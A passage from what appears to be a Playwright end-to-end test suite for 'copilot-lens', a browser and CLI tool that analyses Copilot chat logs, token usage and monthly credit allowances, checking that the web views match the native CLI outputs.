    const { page, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    assertEqual(await page.inputValue('#opt-times'), 'utc', 'UTC by default');
    assert((await page.textContent('#opt-times-local')).includes('Asia/Tokyo'), 'the local choice names the zone');
    await pick(page, SPEC);
    await showView(page, 'timeline');
    const firstTime = () => page.waitForFunction(() => {
      const cell = document.querySelector('#view-timeline .vt-row[data-index="0"] > :first-child');
      return cell && cell.textContent;
    }).then((handle) => handle.jsonValue());
    assertEqual(await firstTime(), '2026-10-01 09:00:00', 'the first row in UTC, as the data says');
    await page.selectOption('#opt-times', 'local');
    await showView(page, 'timeline');
    assertEqual(await firstTime(), '2026-10-01 18:00:00', 'the same row in Asia/Tokyo');
    await showView(page, 'usage');
    assert((await page.textContent('#usage-days')).includes('UTC days'), 'usage days are UTC and the page says so');
    const stored = await page.evaluate(() => Object.fromEntries(Object.keys(localStorage).map((key) => [key, localStorage.getItem(key)])));
    assertEqual(stored, { 'copilot-lens.times': 'local' }, 'only the setting is kept');
    await page.reload();
    await waitEngine(page);
    assertEqual(await page.inputValue('#opt-times'), 'local', 'remembered on the next visit');
    assertEqual(errors, [], 'no page errors');
    return 'UTC 09:00:00, Asia/Tokyo 18:00:00, remembered';
  } finally {
    await browser.close();
  }
});

test('with the thinking option the rows equal the native --include-thinking; the transcript shows thinking on its toggle', async () => {
  const expected = native(SPEC, { includeThinking: true });
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await page.click('#input-panel details.options summary');
    await page.check('#opt-thinking');
    await pick(page, SPEC);
    await checkNumbers(page, expected, 'spec with thinking');
    assert((await exportFile(page, 'rows.jsonl')).text === expected.rowsJsonl, 'rows.jsonl with thinking equals the native one');
    await showView(page, 'sessions');
    await page.click('#session-list tbody tr:first-child button.link');
    await page.waitForSelector('#transcript[data-loaded]');
    const thinking = expected.rowsJsonl.split('\n').filter(Boolean).map((l) => JSON.parse(l)).filter((r) => r.turn_type === 'thinking');
    assert(thinking.length > 0, 'the fixture has thinking rows');
    assertEqual(await page.$$eval('#conversation .msg.thinking', (all) => all.filter((e) => e.offsetParent !== null).length), 0, 'thinking is hidden at first');
    await page.check('#show-thinking');
    const shown = await page.$$eval('#conversation .msg.thinking', (all) => all.filter((e) => e.offsetParent !== null).map((e) => e.querySelector('.msg-text').textContent));
    assertEqual(shown, thinking.map((r) => r.text), 'the toggle shows the thinking rows');
    await shot(page, 'spec-transcript-thinking.png');
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'thinking');
    return `${thinking.length} thinking rows shown on the toggle`;
  } finally {
    await browser.close();
  }
});

test('the demo equals the native CLI on the demo zip; views; timeline filters and scrolling; only the demo is fetched', async () => {
  const expected = native(DEMO);
  const rows = expected.rowsJsonl.split('\n').filter(Boolean).map((l) => JSON.parse(l));
  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    await page.screenshot({ path: path.join(SHOTS, 'idle.png') });
    await page.click('#demo');
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the demo is analysed');
    const shown = await checkNumbers(page, expected, 'demo');
    await page.waitForFunction(() => document.querySelectorAll('#view-overview canvas').length === 4);
    await screenshots(page, 'demo');

    // Usage by model: as many rows as the native `usage --by model` has models (its JSON rows
    // keep the agents apart; the table adds them up).
    await showView(page, 'usage');
    await page.selectOption('#usage-by', 'model');
    const byModel = JSON.parse(execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['usage', DEMO, '--by', 'model', '--json'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }));
    const models = new Set(byModel.rows.map((r) => JSON.stringify([r.model, r.flags.filter((f) => f === 'partial' || f === 'recovered')])));
    await page.waitForFunction((n) => document.querySelectorAll('#view-usage .usage-table tbody tr').length === n, models.size);
    await shot(page, 'demo-usage-by-model.png');

    // Sessions: sort by tokens.
    await showView(page, 'sessions');
    await page.click('#session-list th[data-key="tokens"]');
    const firstTokens = await page.$eval('#session-list tbody tr:first-child td:nth-child(10)', (td) => td.textContent);
    const maxTokens = Math.max(...expected.sessions.map((s) => (s.usage ? s.usage.total : -1)));
    assertEqual(firstTokens, fmtInt(maxTokens), 'sorting by tokens puts the largest first');
    await page.fill('#session-filter', 'octo-world');
    const filtered = await page.$$eval('#session-list tbody tr', (trs) => trs.length);
    assertEqual(filtered, expected.sessions.filter((s) => [s.name, s.session_id, s.project_path, s.git_branch, s.models.join(' '), s.client_name].some((v) => (v || '').toLowerCase().includes('octo-world'))).length, 'the session filter');
    await page.fill('#session-filter', '');
    // A session with a denial.
    const denied = expected.sessions.find((s) => s.denials > 0);
    await page.click(`#session-list tr[data-session="${denied.session_id}"] button.link`);
    await page.waitForSelector(`#transcript[data-loaded="${denied.session_id}"]`);
    assert((await page.$$('#conversation .sys.perm-denied')).length >= 1, 'a denial shows in its transcript');
    await page.$eval('#conversation .sys.perm-denied', (el) => el.scrollIntoView({ block: 'center' }));
    await page.screenshot({ path: path.join(SHOTS, 'demo-transcript-denial.png') });
    await page.click('#transcript-back');
    // A long reply (the worker's table keeps its start) shows whole in its transcript.
    const long = rows.filter((r) => r.turn_type === 'assistant' && r.session_id).sort((a, b) => b.text.length - a.text.length)[0];
    assert(Buffer.byteLength(long.text) > 512, 'the demo has a reply longer than the table keeps');
    await page.click(`#session-list tr[data-session="${long.session_id}"] button.link`);
    await page.waitForSelector(`#transcript[data-loaded="${long.session_id}"]`);
    const replies = await page.$$eval('#conversation .msg.assistant .msg-text', (all) => all.map((e) => e.textContent));
    // Shown as Markdown: its words, without the marks, to its very end.
    const words = (text) => text.replace(/[`*_#>\[\]()|-]/g, '').replace(/\s+/g, '');
    assert(replies.some((reply) => words(reply).endsWith(words(long.text).slice(-200))), `the longest reply (${long.text.length} characters) shows whole in its transcript`);
    assert(!(await page.$('#conversation .msg.assistant .cut')), 'and no reply is cut');
    await page.click('#transcript-back');

    // Timeline: counts under filters equal the native rows; the last row is reachable.
    await showView(page, 'timeline');
    const count = () => page.$eval('#tl-count', (e) => e.textContent);
    assertEqual(await count(), rowsText(rows.length), 'timeline shows every row');
    await page.check('#view-timeline input[data-type="user"]');
    await page.waitForFunction((t) => document.getElementById('tl-count').textContent === t, rowsText(rows.filter((r) => r.turn_type === 'user').length));
    await page.uncheck('#view-timeline input[data-type="user"]');
    await page.fill('#tl-search', 'NPM TEST');
    const npm = rows.filter((r) => searchable(r).toLowerCase().includes('npm test')).length;
    await page.waitForFunction((t) => document.getElementById('tl-count').textContent === t, rowsText(npm));
    await page.screenshot({ path: path.join(SHOTS, 'demo-timeline-search.png') });
    const project = rows.find((r) => r.project_path).project_path;
    await page.fill('#tl-search', '');
    await page.selectOption('#tl-project', project);
    await page.fill('#tl-since', '2026-11-01');
    await page.dispatchEvent('#tl-since', 'change');
    const projectRows = rows.filter((r) => r.project_path === project && r.timestamp_utc >= '2026-11-01').length;
    await page.waitForFunction((t) => document.getElementById('tl-count').textContent === t, rowsText(projectRows));
    await page.click('#view-timeline button:text("Clear filters")');
    await page.waitForFunction((t) => document.getElementById('tl-count').textContent === t, rowsText(rows.length));
    await page.$eval('#tl-scroll', (el) => (el.scrollTop = el.scrollHeight));
    await page.waitForFunction(
      (last) => [...document.querySelectorAll('#tl-scroll .vt-row')].some((r) => !r.hidden && r.dataset.position === String(last) && r.dataset.filled),
      rows.length - 1,
    );
    await page.click('#tl-scroll .vt-row:not([hidden])');
    await page.waitForSelector('#tl-detail:not([hidden])');
    await shot(page, 'demo-timeline-end.png');

    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'demo', ['/demo/copilot-demo.zip']);
    const demoRequests = net.during('after-load').filter((e) => e.url.endsWith('/demo/copilot-demo.zip'));
    assertEqual(demoRequests.length, 1, 'the demo zip is fetched once, from the page\'s origin');
    return `summary ${JSON.stringify(await summaryOf(page))}; overview ${JSON.stringify(shown)}`;
  } finally {
    await browser.close();
  }
});

/** The native usage.csv of `input` with its days in `zone`. */
function nativeUsageCsv(input, zone) {
  const out = mkdtempSync(path.join(os.tmpdir(), 'copilot-lens-zone-'));
  execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['analyze', input, '--timezone', zone, '--out', out], { stdio: 'ignore' });
  const csv = readFileSync(path.join(out, 'usage.csv'), 'utf8');
  rmSync(out, { recursive: true, force: true });
  return csv;
}

/** The native `usage INPUT --export` of `what` (team.csv or team.jsonl) at `exportedAt`, with `args`. */
function nativeTeamExport(input, what, exportedAt, args = []) {
  const out = mkdtempSync(path.join(os.tmpdir(), 'copilot-lens-team-'));
  const file = path.join(out, what);
  execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['usage', input, '--export', file, '--exported-at', exportedAt, ...args], { stdio: 'ignore' });
  const text = readFileSync(file, 'utf8');
  rmSync(out, { recursive: true, force: true });
  return text;
}

/** The time a team export says it was made at, to the second (as the CLI's --exported-at takes it). */
const exportedAtOf = (text) => /"?exported_at"?[:,].*?(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ)/s.exec(text)[1];

/** The native `usage ... --json` with `args`. */
function nativeUsage(input, args) {
  return JSON.parse(execFileSync(path.join(ROOT, 'target/release/copilot-lens'), ['usage', input, '--json', ...args], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] }));
}

/** Sets a select's value as a person would (it may be hidden: a control of one choice is). */
async function choose(page, selector, value) {
  await page.$eval(selector, (el, v) => {
    el.value = v;
    el.dispatchEvent(new Event('change', { bubbles: true }));
  }, value);
}

/** A usage row as the Usage view shows its figures (the columns after the group and model). */
function usageCells(row) {
  return [
    // Credits as the CLI's table shows them: `~` where some are estimated; first, as the page puts them.
    row.credits === null ? '—' : (row.credits_from === 'recorded' ? '' : '~') + hundredths.format(row.credits),
    fmtInt(row.requests),
    fmtInt(row.input),
    fmtInt(row.cache_read),
    fmtInt(row.cache_write),
    fmtInt(row.output),
    fmtInt(row.reasoning),
    fmtInt(row.total),
    row.flags.join(''),
  ];
}

/**
 * The Usage view's Totals from the native `usage --json`: one row, the total the headline gives,
 * each part's credits beside it where there are several, then what an ambiguous resume's upper
 * reading would add.
 */
function totalsOf(usage) {
  const credits = (row) => usageCells(row)[0];
  const parts = Object.keys(usage.totals).filter((kind) => kind !== 'ambiguous_resume');
  const partCells = (isTotal) => (parts.length > 1 ? parts.map((kind) => (isTotal ? credits(usage.totals[kind]) : '')) : []);
  const row = (label, r, isTotal) => [label, ...usageCells(r).slice(0, -1), ...partCells(isTotal), r.flags.join('')];
  const rows = parts.length ? [row('total', usage.grand_total, true)] : [];
  if (usage.totals.ambiguous_resume) rows.push(row('if a resume restarted the counters (not in the total)', usage.totals.ambiguous_resume, false));
  return rows;
}

/** The Usage view's tables as text, once its heading is `heading`. */
async function usageShown(page, heading) {
  await page.waitForFunction((t) => [...document.querySelectorAll('#view-usage h2')].some((e) => e.textContent === t), heading);
  return page.evaluate(() => {
    // A flag shows in words; its cell is read as the outputs name it (`data-flag`).
    const text = (td) => (td.querySelector('[data-flag]') ? [...td.querySelectorAll('[data-flag]')].map((flag) => flag.dataset.flag).join('') : td.textContent);
    const cells = (selector) => [...document.querySelectorAll(selector)].map((tr) => [...tr.children].map(text));
    return { rows: cells('#view-usage .usage-table tbody tr'), totals: cells('#view-usage .usage-totals tbody tr') };
  });
}

test('agents: the timeline, sessions and usage filter by agent, usage splits by agent as the native --by agent, the days chart stacks by agent when several', async () => {
  const expected = native(DEMO);
  const rows = expected.rowsJsonl.split('\n').filter(Boolean).map((l) => JSON.parse(l));
  const sorted = (values) => [...new Set(values)].sort();
  const rowAgents = sorted(rows.map((r) => r.agent));
  const sessionAgents = sorted(expected.sessions.map((s) => s.agent));
  const byAgent = nativeUsage(DEMO, ['--by', 'agent']);
  const counted = (row) => !row.flags.includes('partial') && !row.flags.includes('recovered');
  const usageAgents = sorted(byAgent.rows.filter(counted).map((r) => r.agent));
  assert(rowAgents.length >= 1 && rowAgents.includes('copilot-cli'), `the demo's agents: ${rowAgents}`);
  // Split or added up, the same totals, each agent's rows adding up to them.
  assertEqual(byAgent.totals, expected.usage.totals, 'the native totals split by agent equal those added up');
  const sumOf = (list, field) => list.reduce((n, r) => n + (r[field] || 0), 0);
  assertEqual(sumOf(byAgent.rows.filter(counted), 'total'), expected.usage.totals.counted.total, 'the native agent rows add up to the total');
  const ofAgent = Object.fromEntries(usageAgents.map((a) => [a, nativeUsage(DEMO, ['--agent', a])]));
  assertEqual(sumOf(Object.values(ofAgent).map((u) => u.totals.counted), 'total'), expected.usage.totals.counted.total, "the agents' own totals add up to the total");

  const browser = await launch();
  try {
    const { page, net, errors } = await openPage(browser, server.url, server.url.replace(/\/$/, ''));
    await markLoaded(net);
    const hint = await page.textContent('#where-steps');
    for (const where of ['~/.config/Code/User', '~/Library/Application Support/Code/User', '%APPDATA%\\Code\\User', 'Code - Insiders', 'chatSessions']) {
      assert(hint.includes(where), `the start screen says where VS Code keeps its chats: ${where}`);
    }
    await page.click('#demo');
    assertEqual(await waitForState(page, ['done', 'error']), 'done', 'the demo is analysed');

    // Timeline: the agents of the rows, hidden with one (as the homes are); each filters to its rows.
    await showView(page, 'timeline');
    const count = (n) => page.waitForFunction((t) => document.getElementById('tl-count').textContent === t, rowsText(n));
    await count(rows.length);
    const offered = (selector) => page.$$eval(`${selector} option`, (options) => options.map((o) => o.value).filter(Boolean));
    assertEqual(await offered('#tl-agent'), rowAgents, 'the timeline offers the agents of the rows');
    assertEqual(await page.$eval('#tl-agent', (el) => el.hidden), rowAgents.length < 2, 'the timeline agent filter shows with several agents');
    for (const agent of rowAgents) {
      await choose(page, '#tl-agent', agent);
      await count(rows.filter((r) => r.agent === agent).length);
      await page.check('#view-timeline input[data-type="user"]');
      await count(rows.filter((r) => r.agent === agent && r.turn_type === 'user').length);
      await page.uncheck('#view-timeline input[data-type="user"]');
    }
    await page.click('#view-timeline button:text("Clear filters")');
    await count(rows.length);
    assertEqual(await page.$eval('#tl-agent', (el) => el.value), '', 'Clear filters clears the agent');

    // Sessions: the same, from the sessions' agents.
    await showView(page, 'sessions');
    assertEqual(await offered('#session-agent'), sessionAgents, 'the Sessions view offers the agents of the sessions');
    assertEqual(await page.$eval('#session-agent', (el) => el.hidden), sessionAgents.length < 2, 'the session agent filter shows with several agents');
    const total = expected.sessions.length;
    for (const agent of sessionAgents) {
      await choose(page, '#session-agent', agent);
      const n = expected.sessions.filter((s) => s.agent === agent).length;
      assertEqual(await page.textContent('#session-list .controls span.muted'), `${fmtInt(n)} of ${fmtInt(total)} sessions`, `the sessions of ${agent}`);
    }
    await choose(page, '#session-agent', '');

    // Usage: by agent, the native --by agent; each agent alone, the native --agent.
    await showView(page, 'usage');
    assertEqual(await offered('#usage-agent'), sessionAgents, 'the Usage view offers the agents');
    await page.selectOption('#usage-by', 'agent');
    let shown = await usageShown(page, 'Usage by agent');
    assertEqual(shown.rows, byAgent.rows.map((r) => [r.agent, r.model, ...usageCells(r)]), 'the table by agent is the native --by agent');
    assertEqual(shown.totals, totalsOf(expected.usage), 'its totals are those of the agents added up');
    await shot(page, 'agents-usage-by-agent.png');
    for (const agent of usageAgents) {
      await choose(page, '#usage-agent', agent);
      shown = await usageShown(page, `Usage by agent of ${agent}`);
      assertEqual(shown.totals, totalsOf(ofAgent[agent]), `the totals of ${agent} are the native --agent ${agent}`);
      assert(shown.rows.every((cells) => cells[0] === agent), `only ${agent}'s rows`);
    }
    await choose(page, '#usage-agent', '');
    await page.selectOption('#usage-by', 'day');
    shown = await usageShown(page, 'Usage by day');
    // The native JSON rows keep the agent grain: added up, a day and model of several agents is one row.
    const addedUp = new Set(expected.usage.rows.map((r) => JSON.stringify([r.day, r.model, r.flags.filter((f) => f === 'partial' || f === 'recovered')])));
    assertEqual(shown.rows.length, addedUp.size, 'by day, the agents added up: the native rows');
    assertEqual(shown.totals, totalsOf(expected.usage), 'and the same totals');

    // Overview: tokens and credits per day stacked by agent when several agents count tokens, else
    // by model; each series, day by day, is the native one.
    await showView(page, 'overview');
    const stackBy = usageAgents.length > 1 ? 'agent' : 'model';
    const titles = await page.$$eval('#view-overview section.card h2', (hs) => hs.map((e) => e.textContent));
    assert(titles.includes(`Tokens per day, by ${stackBy}`) && titles.includes(`Credits per day, by ${stackBy}`), `the day charts stack by ${stackBy}: ${titles}`);
    const charts = await page.evaluate(() =>
      Object.fromEntries(
        ['chart-tokens-day', 'chart-credits-day'].map((id) => {
          const chart = window.Chart.getChart(document.getElementById(id));
          return [id, { labels: chart.data.labels, datasets: chart.data.datasets.map((d) => ({ label: d.label, data: d.data })) }];
        }),
      ),
    );
    const series =
      stackBy === 'agent'
        ? usageAgents.map((a) => [a, ofAgent[a].rows.filter(counted)])
        : sorted(byAgent.rows.filter(counted).map((r) => r.model)).map((m) => [m, expected.usage.rows.filter((r) => counted(r) && r.model === m)]);
    for (const [id, field, scale] of [['chart-tokens-day', 'total', 1], ['chart-credits-day', 'credits', 1]]) {
      const chart = charts[id];
      assertEqual(chart.datasets.map((d) => d.label), series.map(([label]) => label), `${id}: a series per ${stackBy}`);
      for (const [i, [label, list]] of series.entries()) {
        const want = chart.labels.map((day) => list.filter((r) => r.day === day).reduce((n, r) => n + (r[field] || 0) / scale, 0));
        const got = chart.datasets[i].data;
        assert(got.length === want.length && got.every((v, j) => Math.abs(v - want[j]) < 1e-9), `${id}: ${label} day by day is the native figure`);
      }
    }
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'agents', ['/demo/copilot-demo.zip']);
    return `agents of rows ${rowAgents}, of sessions ${sessionAgents}, with usage ${usageAgents}; ${byAgent.rows.length} rows by agent; days stacked by ${stackBy}`;
  } finally {
    await browser.close();
  }
});

/** The Month view's tiles: {metric: {value, text}}, and the engine's month it shows. */
async function monthShown(page) {
  return page.evaluate(() => ({
    tiles: Object.fromEntries([...document.querySelectorAll('#month-tiles .tile')].map((t) => [t.dataset.metric, { value: t.dataset.value, text: t.querySelector('.tile-value').textContent }])),
    month: JSON.parse(document.getElementById('view-month').dataset.month || 'null'),
    projection: document.getElementById('month-projection').textContent,
    runout: document.getElementById('month-runout').textContent,
    options: [...document.querySelectorAll('#month-select option')].map((o) => o.value),
    selected: document.getElementById('month-select').value,
    sessions: [...document.querySelectorAll('#view-month .month-sessions tbody tr')].map((tr) => [...tr.children].map((td) => td.textContent)),
    projects: [...document.querySelectorAll('#view-month .month-projects tbody tr')].map((tr) => [...tr.children].map((td) => td.textContent)),
    models: [...document.querySelectorAll('#view-month .month-models tbody tr')].map((tr) => [...tr.children].map((td) => td.textContent)),
  }));
}

/** Types an allowance and waits for the month shown to be against it. */
async function setAllowance(page, text) {
  await page.fill('#month-allowance', text);
  const want = text === '' ? null : Number(text);
  await page.waitForFunction((a) => {
    const m = JSON.parse(document.getElementById('view-month').dataset.month || 'null');
    return m && m.allowance === a;
  }, want);
}

test('the month view: fixtures/credits/08-allowance-runout as of 2026-11-05 shows 600 used, 3,600 projected and the run-out day 2026-11-13 against 1500; a finished month says it ran out', async () => {
  const fixture = path.join(ROOT, 'fixtures/credits/08-allowance-runout');
  const byMonth = nativeUsage(fixture, ['--by', 'month']);
  const cliNovember = byMonth.rows.filter((r) => r.month === '2026-11').reduce((n, r) => n + r.credits, 0);
  const browser = await launch();
  try {
    const origin = server.url.replace(/\/$/, '');
    const { page, net, errors } = await openPage(browser, `${origin}/?today=2026-11-05`, origin);
    await markLoaded(net);
    await pick(page, fixture);
    await showView(page, 'month');
    await page.waitForSelector('#month-tiles');
    let shown = await monthShown(page);
    assertEqual(shown.options, [...new Set(byMonth.rows.map((r) => r.month))].sort().reverse(), 'the months with usage, as the native --by month');
    assertEqual(shown.selected, '2026-11', "today's month (UTC), which has usage");
    const m = shown.month;
    assertEqual([m.month, m.as_of, m.finished, m.days_in_month, m.allowance], ['2026-11', '2026-11-05', false, 30, null], 'November 2026 as of 2026-11-05, no allowance');
    assertEqual(m.days.map((d) => d.cumulative), [0, 150, 300, 450, 600], 'cumulative by UTC day (EXPECTED.md)');
    assertEqual([m.used, m.recorded, m.estimated, m.projected, m.runs_out_on], [600, 600, 0, 3600, null], 'used, recorded, estimated, projected (EXPECTED.md: pace 120 a day, 3,600)');
    assertEqual(m.by_agent, [{ agent: 'copilot-cli', recorded: 600, estimated: 0 }], 'one surface, Copilot CLI, all as recorded');
    assertEqual(await page.textContent('#month-surfaces'), 'By surface: Copilot CLI: 600.00 as Copilot recorded them, 0.00 estimated at the published rates.', 'each surface in words');
    assertEqual(Math.round(cliNovember * 100) / 100, 600, "the native usage --by month's November credits");
    assertEqual(shown.tiles.used, { value: '600', text: '600.00' }, 'used as shown');
    assertEqual(shown.tiles.recorded, { value: '600', text: '600.00' }, 'recorded as shown');
    assertEqual(shown.tiles.estimated, { value: '0', text: '0.00' }, 'estimated as shown');
    assertEqual(shown.tiles.projected, { value: '3600', text: '3,600.00' }, 'the projection as shown');
    assert(shown.projection.includes('3,600.00') && shown.projection.includes('120.00 credits a day'), `the projection in words: ${shown.projection}`);
    assert(shown.runout.includes('Give a monthly allowance'), 'no allowance: no run-out day');
    assert((await page.textContent('#month-utc')).includes("UTC's") && (await page.textContent('#month-utc')).includes('2026-11-05'), 'the month is said to be UTC\'s, as of the fixed today');

    await setAllowance(page, '1500');
    shown = await monthShown(page);
    assertEqual([shown.month.runs_out_on, shown.month.projected, shown.month.used], ['2026-11-13', 3600, 600], 'against 1500: runs out on 2026-11-13 (EXPECTED.md)');
    assertEqual(shown.tiles.runs_out_on.text, '2026-11-13', 'the run-out day as shown');
    assertEqual(shown.tiles.share.text, '40%', '600 of 1500');
    assert(shown.runout.includes('runs out on 2026-11-13'), `the run-out day in words: ${shown.runout}`);
    assertEqual(await page.evaluate(() => localStorage.getItem('copilot-lens.allowance')), '1500', 'the allowance is remembered');
    assertEqual(shown.sessions.length, 4, 'four sessions used credits');
    assert(shown.sessions.every((r) => r[2] === '150.00' && r[3] === 'recorded' && r[4] === '25.0%'), `each session 150.00 recorded credits: ${JSON.stringify(shown.sessions)}`);
    assertEqual(shown.models.map((r) => r.slice(0, 4)), [['claude-opus-4.6', '600.00', 'recorded', '100.0%']], 'the one model');
    // The native `usage --by project`: the four sessions' one project.
    assertEqual(shown.projects.map((r) => [r[0], r[2], r[3]]), [['/home/mona/code/shop', '600.00', 'recorded']], 'the one project');
    await page.waitForFunction(() => document.querySelector('#chart-month') && window.Chart && window.Chart.getChart(document.querySelector('#chart-month')));
    const chart = await page.evaluate(() => {
      const c = window.Chart.getChart(document.querySelector('#chart-month'));
      return Object.fromEntries(c.data.datasets.map((d) => [d.label, d.data]));
    });
    assertEqual(chart['allowance'].length, 30, 'the allowance line spans the month');
    assertEqual(chart['projection at this pace'][4], 600, 'the projection starts at the as-of day');
    assertEqual(chart['projection at this pace'][29], 3600, "and ends at the month's end at 3,600");
    assertEqual(chart['projection at this pace'][3], null, 'and nothing before');
    await page.waitForTimeout(150);
    await shot(page, 'month-view.png');

    await setAllowance(page, '7000');
    shown = await monthShown(page);
    assertEqual(shown.month.runs_out_on, null, 'against 7000: no run-out this month');
    assert(shown.runout.includes('lasts the month') && shown.runout.includes('3,400.00'), `3,400 left at the month's end: ${shown.runout}`);
    assertEqual(errors, [], 'no page errors');
    noNetworkAfterLoad(net, server, 'month');

    // Today 2026-12-10: December has no usage yet, so November (the latest month with usage)
    // opens, and the view says so; December is offered, and shows 0 so far; November is over.
    const later = await browser.context.newPage();
    const laterErrors = [];
    later.on('pageerror', (error) => laterErrors.push(error.message));
    await later.goto(`${origin}/?today=2026-12-10`);
    await waitEngine(later);
    await pick(later, fixture);
    await showView(later, 'month');
    await later.waitForSelector('#month-tiles');
    const opened = await monthShown(later);
    assertEqual([opened.selected, opened.month.month, opened.options[0]], ['2026-11', '2026-11', '2026-12'], 'the latest month with usage opens; the current one is offered first');
    assertEqual(await later.textContent('#month-latest'), 'No usage in December 2026 (UTC) yet: showing November 2026, the latest month with usage. Pick December 2026 above to see it.', 'and the view says why');
    await later.selectOption('#month-select', '2026-12');
    await later.waitForFunction(() => JSON.parse(document.getElementById('view-month').dataset.month || 'null')?.month === '2026-12');
    const december = await monthShown(later);
    assertEqual([december.selected, december.month.month, december.month.used], ['2026-12', '2026-12', 0], "today's month (UTC), picked, has no usage yet");
    assert((await later.textContent('#month-headline')).startsWith('December: 0.00 credits so far'), 'December: 0 credits so far');
    assertEqual(await later.inputValue('#month-allowance'), '7000', 'the remembered allowance');
    await later.selectOption('#month-select', '2026-11');
    await later.waitForFunction(() => JSON.parse(document.getElementById('view-month').dataset.month || 'null')?.month === '2026-11');
    await setAllowance(later, '500');
    const over = await monthShown(later);
    assertEqual([over.selected, over.month.finished, over.month.as_of, over.month.projected, over.month.runs_out_on], ['2026-11', true, '2026-11-30', null, '2026-11-05'], 'November is over and ran out on 2026-11-05');
    assert(over.runout.includes('ran out on 2026-11-05') && over.projection.includes('The month is over'), `in words: ${over.projection} ${over.runout}`);
    assertEqual(over.tiles.share.text, '120%', '600 of 500');
    // Days grouped in another zone: the billing month is UTC's, so the view says so and shows none.
    const analysed = await later.evaluate(() => document.getElementById('view-month').dataset.ready);
    await later.evaluate(() => {
      const zone = document.getElementById('opt-timezone');
      zone.appendChild(new Option('Europe/Berlin', 'Europe/Berlin'));
      zone.value = 'Europe/Berlin';
      document.getElementById('rerun').click();
    });
    // Working, or (on a busy machine, before this looks) already done and the view made again.
    await later.waitForFunction((before) => window.copilotLens.state === 'working' || document.getElementById('view-month').dataset.ready !== before, analysed);
    assertEqual(await waitForState(later, ['done', 'error']), 'done', 'analysed again in Europe/Berlin');
    await showView(later, 'month');
    assert((await later.textContent('#month-zone')).includes("billing month is UTC's"), 'another zone: the month view asks for UTC days');
    assertEqual(await later.$('#month-tiles'), null, 'and shows no month');
    assertEqual(laterErrors, [], 'no page errors');
    return `as of 2026-11-05: used ${m.used}, projected ${m.projected}, against 1500 runs out ${'2026-11-13'}; as of 2026-12-10 against 500: ran out ${over.month.runs_out_on}`;
  } finally {
    await browser.close();
  }
});

test('the month view: your own budget is remembered, drawn across the month on the chart, and the day the pace crosses it is the allowance rule\'s day (fixtures/credits/08-allowance-runout as of 2026-11-05)', async () => {
  const fixture = path.join(ROOT, 'fixtures/credits/08-allowance-runout');
  const browser = await launch();
  try {
    const origin = server.url.replace(/\/$/, '');
    const { page, errors } = await openPage(browser, `${origin}/?today=2026-11-05`, origin);
    await pick(page, fixture);
    await showView(page, 'month');
    await page.waitForSelector('#month-tiles');
    const setBudget = async (text) => {
      await page.fill('#month-budget', text);
      await page.waitForFunction((b) => JSON.parse(document.getElementById('view-month').dataset.month || 'null')?.budget === b, Number(text));
      return { month: (await monthShown(page)).month, words: await page.textContent('#month-budget-pace') };
    };
    // 600 used by Nov 5, 120 a day: 1,000 is reached on day 9; 300 was on Nov 3.
    const ahead = await setBudget('1000');
    assertEqual([ahead.month.budget, ahead.month.budget_crossed_on, ahead.month.allowance], [1000, '2026-11-09', null], 'against a budget of 1,000: crossed on 2026-11-09 at this pace; no allowance');
    assertEqual(ahead.words, 'At this pace the credits cross your budget of 1,000.00 credits on 2026-11-09.', 'said in words');
    await setAllowance(page, '1000');
    assertEqual((await monthShown(page)).month.runs_out_on, '2026-11-09', 'an allowance of 1,000 runs out the same day: one rule');
    await page.waitForFunction(() => window.Chart && window.Chart.getChart(document.querySelector('#chart-month'))?.data.datasets.some((d) => d.label === 'your budget'));
    const line = await page.evaluate(() => window.Chart.getChart(document.querySelector('#chart-month')).data.datasets.find((d) => d.label === 'your budget').data);
    assertEqual([line.length, new Set(line).size, line[0]], [30, 1, 1000], 'the budget line spans the month at 1,000');
    const crossed = await setBudget('300');
    assertEqual(crossed.month.budget_crossed_on, '2026-11-03', 'a budget of 300 was crossed on Nov 3 (cumulative 150, 300)');
    assertEqual(crossed.words, 'The credits crossed your budget of 300.00 credits on 2026-11-03.', 'said as past');
    const within = await setBudget('5000');
    assertEqual([within.month.budget_crossed_on ?? null, within.words], [null, 'At this pace the month stays within your budget of 5,000.00 credits: about 1,400.00 under it at its end.'], 'a budget the pace stays within');
    assertEqual(await page.evaluate(() => localStorage.getItem('copilot-lens.budget-month')), '5000', 'the budget is remembered');
    await page.fill('#month-budget', '');
    await page.waitForFunction(() => !('budget' in (JSON.parse(document.getElementById('view-month').dataset.month || '{}'))));
    assertEqual(await page.$('#month-budget-pace'), null, 'no budget: no word of one');
    assertEqual(errors, [], 'no page errors');
  } finally {
    await browser.close();
  }
});

/** The reconciliation the Month view shows (its JSON, as Engine.reconcile_bill answers). */
async function billShown(page, files) {
  await page.waitForFunction((n) => {
    const shown = document.getElementById('month-bill').dataset.bill;
    return shown && JSON.parse(shown).file.split(', ').length === n;
  }, files);
  return page.evaluate(() => JSON.parse(document.getElementById('month-bill').dataset.bill));
}

test('a GitHub usage report dropped with the folder: the Month view reconciles it as the native usage --bill does; a report added afterwards too', async () => {
  const bills = path.join(ROOT, 'fixtures/bills');
  const home = path.join(bills, 'home');
  const native = nativeUsage(home, ['--bill', path.join(bills, 'ai-credits.csv')]).bill;
  const both = nativeUsage(home, ['--bill', path.join(bills, 'ai-credits.csv'), '--bill', path.join(bills, 'transition.csv')]).bill;
  const files = filesUnder(home).map((rel) => ({ path: rel, b64: readFileSync(path.join(home, rel)).toString('base64') }));
  const csv = readFileSync(path.join(bills, 'ai-credits.csv')).toString('base64');
  const browser = await launch();
  try {
    const origin = server.url.replace(/\/$/, '');
    const { page, net, errors } = await openPage(browser, `${origin}/?today=2026-10-20`, origin);
    await markLoaded(net);
